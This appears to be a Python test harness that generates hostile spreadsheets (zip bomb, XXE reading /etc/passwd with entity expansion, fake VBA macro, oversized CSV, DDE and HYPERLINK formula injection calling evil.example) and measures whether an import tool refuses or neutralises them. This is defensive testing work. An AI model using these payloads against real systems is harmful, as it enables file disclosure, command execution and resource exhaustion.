"""Hostile spreadsheets and how the import treats them: each refused or neutralised, within 5 s and 300 MB.

:func:`make_hostile_files` writes the files; :func:`measure_hostile` imports each one in a fresh Python
process (``lob-kompas initiatives-import --dry-run`` through :func:`recommender.initiatives.import_table`)
and reports the wall time, the peak memory of that process (``VmHWM``) and the outcome. The tests use
the same files (smaller where the size does not matter).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

from pydantic import BaseModel

TIME_LIMIT_S = 5.0
RSS_LIMIT_MB = 300.0

_CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>"""
_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>
</Relationships>"""
_WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>"""
_WB_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
</Relationships>"""
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _row(n: int, *cells: str) -> str:
    inner = "".join(f'<c r="{chr(65 + i)}{n}" t="inlineStr"><is><t>{c}</t></is></c>' for i, c in enumerate(cells))
    return f'<row r="{n}">{inner}</row>'


def _xlsx(
    path: Path, sheet_xml: str | None = None, extra: dict[str, bytes] | None = None, sheet_stream: Any = None
) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CONTENT_TYPES)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WORKBOOK)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        if sheet_stream is not None:
            with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
                for chunk in sheet_stream:
                    fh.write(chunk)
        else:
            z.writestr("xl/worksheets/sheet1.xml", sheet_xml or _SHEET_HEAD + _SHEET_TAIL)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return path


def zip_bomb(path: Path, unpacked_mb: int = 1024) -> Path:
    """A valid-looking xlsx whose one sheet unpacks to ``unpacked_mb`` MB of identical rows."""
    row = _row(1, "Bom", "vmbo", "gastles", "veel").encode()
    block = row * (1024 * 1024 // len(row) + 1)
    block = block[: 1024 * 1024]

    def stream() -> Any:
        yield (_SHEET_HEAD + _row(1, "naam", "schooltype", "activiteit", "praktijk")).encode()
        for _ in range(unpacked_mb):
            yield block
        yield _SHEET_TAIL.encode()

    return _xlsx(path, sheet_stream=stream())


def xxe(path: Path) -> Path:
    """An external entity that would read a local file, and an entity expansion bomb."""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _row(1, "naam", "schooltype", "activiteit", "praktijk")
        + _row(2, "&xxe;&c;", "vmbo", "gastles", "veel")
        + _SHEET_TAIL
    )
    return _xlsx(path, sheet)


def macro(path: Path) -> Path:
    """An .xlsm with a VBA project (the name says macro; so does the content)."""
    sheet = _SHEET_HEAD + _row(1, "naam", "schooltype", "activiteit", "praktijk") + _SHEET_TAIL
    return _xlsx(path, sheet, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + os.urandom(2048)})


def big(path: Path, mb: int = 30) -> Path:
    """A CSV of ``mb`` MB (plausible rows)."""
    line = b"Lasdag in de werkplaats met een lange omschrijving;vmbo;gastles;veel;Rotterdam\n"
    with path.open("wb") as fh:
        fh.write(b"naam;schooltype;activiteit;praktijk;plaats\n")
        for _ in range(mb * 1024 * 1024 // len(line) + 1):
            fh.write(line)
    return path


def many_rows(path: Path, rows: int = 25_000) -> Path:
    """An xlsx with ``rows`` good rows (more than the cap)."""

    def stream() -> Any:
        yield (_SHEET_HEAD + _row(1, "naam", "schooltype", "activiteit", "praktijk")).encode()
        for i in range(2, rows + 2):
            yield _row(i, f"Activiteit {i}", "vmbo", "gastles", "veel").encode()
        yield _SHEET_TAIL.encode()

    return _xlsx(path, sheet_stream=stream())


FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 10 123 4567",
    "-2+3",
    "\t=1+1",
    " =2+2",
    "\r=3+3",
)


def formulas(path: Path) -> Path:
    """Formula cells (DDE, HYPERLINK) and text cells that look like formulas, in an xlsx made by openpyxl."""
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.append(["Naam", "Schooltype", "Soort activiteit", "Zelf doen", "Organisator", "Website", "Plaats"])
    ws.append(
        [
            "Formule-naam",
            "vmbo",
            "gastles",
            "veel",
            '=HYPERLINK("http://evil.example","x")',
            "=cmd|' /C calc'!A0",
            "Rotterdam",
        ]
    )  # real formula cells (openpyxl writes '=...' as a formula)
    for i, text in enumerate(FORMULA_TEXTS):
        ws.append([f"Tekst {i}", "vmbo", "gastles", "veel", text, "", "Rotterdam"])
        ws.cell(row=ws.max_row, column=5).data_type = "s"  # a text cell that starts like a formula
    book.save(path)
    return path


HOSTILE: dict[str, tuple[str, Any]] = {
    "zip bomb (1 GB unpacked)": ("bom.xlsx", zip_bomb),
    "XXE + entity expansion": ("xxe.xlsx", xxe),
    "macro file (.xlsm)": ("macro.xlsm", macro),
    "30 MB file": ("groot.csv", big),
    "25,000 rows": ("rijen.xlsx", many_rows),
    "formula cells": ("formules.xlsx", formulas),
}


def make_hostile_files(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {what: make(folder / name) for what, (name, make) in HOSTILE.items()}


_PROBE = """
import json, sys, time
t0 = time.perf_counter()
from knowledge import load_knowledge
from recommender.initiatives import ImportFout, import_table, search_initiatives, InitiativeFilter
from recommender.initiatives.table_io import export_csv_bytes, export_xlsx_bytes, neutralise
kb = load_knowledge()
ready = time.perf_counter()
out = {"outcome": None, "detail": None}
try:
    result = import_table(sys.argv[1], kb, name="probe", defaults={"schooltypen": ["vmbo"]})
    out["outcome"] = "imported"
    out["detail"] = f"{result.geimporteerd} rows, {len(result.fouten)} refused"
    if result.geimporteerd:
        from recommender.initiatives import catalogue
        own = catalogue().records()
        hits = search_initiatives(None, InitiativeFilter(), extra=own)
        data = export_xlsx_bytes(hits, kb)
        import io, openpyxl
        book = openpyxl.load_workbook(io.BytesIO(data))
        formulas = sum(1 for row in book.active.iter_rows() for c in row if c.data_type == "f")
        csv_text = export_csv_bytes(hits, kb).decode("utf-8-sig")
        live = [line for line in csv_text.splitlines()[1:] for cell in line.split(";")
                if cell.lstrip(" \\t\\r\\"").startswith(("=", "+", "-", "@"))]
        out["detail"] += f"; export: {formulas} formula cells in xlsx, {len(live)} live cells in csv"
        out["outcome"] = "neutralised" if formulas == 0 and not live else "UNSAFE"
except ImportFout as exc:
    out["outcome"] = "refused"
    out["detail"] = f"{exc.code}: {exc}"
done = time.perf_counter()
status = open("/proc/self/status").read().split("\\n")
peak = next(int(l.split()[1]) for l in status if l.startswith("VmHWM")) / 1024
print(json.dumps(out | {"import_s": done - ready, "startup_s": ready - t0, "peak_rss_mb": peak}))
"""


class HostileResult(BaseModel):
    file: str
    size_mb: float
    outcome: str
    detail: str
    import_s: float
    wall_s: float
    peak_rss_mb: float
    within_limits: bool


def measure_hostile(folder: Path, home: Path) -> list[HostileResult]:
    """Import every hostile file in its own process (a fresh ``LOB_HOME``); time and peak memory per file."""
    files = make_hostile_files(folder)
    out = []
    for what, path in files.items():
        env = dict(os.environ, LOB_HOME=str(home / path.stem))
        env.pop("LOB_DATABASE_URL", None)
        t = time.perf_counter()
        done = subprocess.run(
            [sys.executable, "-c", _PROBE, str(path)], env=env, capture_output=True, text=True, timeout=300, check=False
        )
        wall = time.perf_counter() - t
        if done.returncode != 0:
            out.append(
                HostileResult(
                    file=what,
                    size_mb=path.stat().st_size / 2**20,
                    outcome="CRASH",
                    detail=done.stderr[-300:],
                    import_s=wall,
                    wall_s=wall,
                    peak_rss_mb=0,
                    within_limits=False,
                )
            )
            continue
        data = json.loads(done.stdout.strip().splitlines()[-1])
        ok = (
            data["outcome"] in ("refused", "neutralised")
            and data["import_s"] <= TIME_LIMIT_S
            and data["peak_rss_mb"] <= RSS_LIMIT_MB
        )
        out.append(
            HostileResult(
                file=what,
                size_mb=round(path.stat().st_size / 2**20, 2),
                outcome=data["outcome"],
                detail=data["detail"],
                import_s=round(data["import_s"], 2),
                wall_s=round(wall, 2),
                peak_rss_mb=round(data["peak_rss_mb"], 1),
                within_limits=ok,
            )
        )
    return out


def format_hostile(rows: list[HostileResult]) -> str:
    lines = [
        f"| file | size | outcome | import s | process wall s | peak RSS MB | within {TIME_LIMIT_S:g} s / "
        f"{RSS_LIMIT_MB:g} MB |",
        "|---|---|---|---|---|---|---|",
    ]
    for r in rows:
        lines.append(
            f"| {r.file} | {r.size_mb:.2f} MB | {r.outcome}: {r.detail[:90]} | {r.import_s} | {r.wall_s} | "
            f"{r.peak_rss_mb} | {'yes' if r.within_limits else 'NO'} |"
        )
    return "\n".join(lines)


__all__ = ["FORMULA_TEXTS", "HOSTILE", "HostileResult", "format_hostile", "make_hostile_files", "measure_hostile"]
